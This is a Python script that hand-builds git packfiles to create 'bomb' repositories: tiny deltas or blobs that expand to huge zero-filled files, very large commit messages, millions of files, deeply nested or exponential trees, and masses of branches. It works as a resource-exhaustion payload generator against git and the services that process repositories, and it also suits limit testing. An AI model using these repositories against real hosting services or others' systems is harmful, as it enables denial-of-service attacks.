#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Repositories that cost more than they look. Usage: bomb.py REPOSITORY KIND NUMBER, REPOSITORY a bare one to be made.

blob N        one file of N zeros
delta N       one file of N or a few more zeros, as a delta of some bytes
commit N      a commit with a message of N letters
files N       N files of one byte in one directory
nested N      ten directories of ten of ten … (N levels), all of them the same few objects
deep N        one file below N directories
refs N        N branches of one commit

Prints the commit. The pack is written as it stands: git itself would inflate it to make it.
"""
import hashlib, os, struct, subprocess, sys, zlib

repository, kind, number = sys.argv[1], sys.argv[2], int(sys.argv[3])
TYPES = {"commit": 1, "tree": 2, "blob": 3, "delta": 7}
entries = []


def varint(n):
    out = bytearray()
    while n > 127:
        out.append(n & 127 | 128)
        n >>= 7
    return bytes(out) + bytes([n])


def pack_entry(kind, size, parts, base=b""):
    head = bytearray([TYPES[kind] << 4 | size & 15])
    size >>= 4
    while size:
        head[-1] |= 128
        head.append(size & 127)
        size >>= 7
    deflate = zlib.compressobj(1)
    return bytes(head) + base + b"".join(deflate.compress(p) for p in parts) + deflate.flush()


def add(kind, data):
    entries.append(pack_entry(kind, len(data), [data]))
    return hashlib.sha1(b"%s %d\0" % (kind.encode(), len(data)) + data).digest()


def zeros(size):
    chunk = bytes(1 << 20)
    for _ in range(size >> 20):
        yield chunk
    yield bytes(size & (1 << 20) - 1)


def hash_zeros(size):
    h = hashlib.sha1(b"blob %d\0" % size)
    for part in zeros(size):
        h.update(part)
    return h.digest()


def file(oid, name="file", mode="100644"):
    return f"{mode} {name}".encode() + b"\0" + oid


message = b"bomb\n"
if kind == "blob":
    entries.append(pack_entry("blob", number, zeros(number)))
    tree = add("tree", file(hash_zeros(number)))
elif kind == "delta":
    copy = (1 << 24) - 1
    base = add("blob", bytes(copy))
    n = -(-number // copy)
    # "copy 16777215 bytes from offset 0", n times
    delta = varint(copy) + varint(n * copy) + b"\xf0\xff\xff\xff" * n
    entries.append(pack_entry("delta", len(delta), [delta], base))
    tree = add("tree", file(base, "base") + file(hash_zeros(n * copy)))
elif kind == "files":
    blob = add("blob", b"x")
    tree = add("tree", b"".join(file(blob, f"f{i:08}") for i in range(number)))
elif kind in ("nested", "deep"):
    tree = add("tree", file(add("blob", b"x")))
    for _ in range(number):
        tree = add("tree", b"".join(file(tree, f"d{i}", "40000") for i in range(10 if kind == "nested" else 1)))
else:
    tree = add("tree", file(add("blob", b"x")))
    if kind == "commit":
        message = b"x" * number + b"\n"
commit = add("commit", b"tree %s\nauthor A <a@example.org> 1 +0000\ncommitter A <a@example.org> 1 +0000\n\n" %
             tree.hex().encode() + message)
pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
pack += hashlib.sha1(pack).digest()
subprocess.run(["git", "init", "-q", "--bare", repository], check=True)
with open(os.path.join(repository, "objects/pack/in.pack"), "wb") as f:
    f.write(pack)
subprocess.run(["git", "index-pack", "-o", os.path.join(repository, "objects/pack/pack-bomb.idx"), f.name], check=True,
               stdout=subprocess.DEVNULL)
os.rename(f.name, os.path.join(repository, "objects/pack/pack-bomb.pack"))
with open(os.path.join(repository, "packed-refs"), "w") as f:
    f.write(f"# pack-refs with: peeled fully-peeled sorted \n{commit.hex()} refs/heads/main\n")
    if kind == "refs":
        f.writelines(f"{commit.hex()} refs/heads/n{i:08}\n" for i in range(1, number))
print(commit.hex())
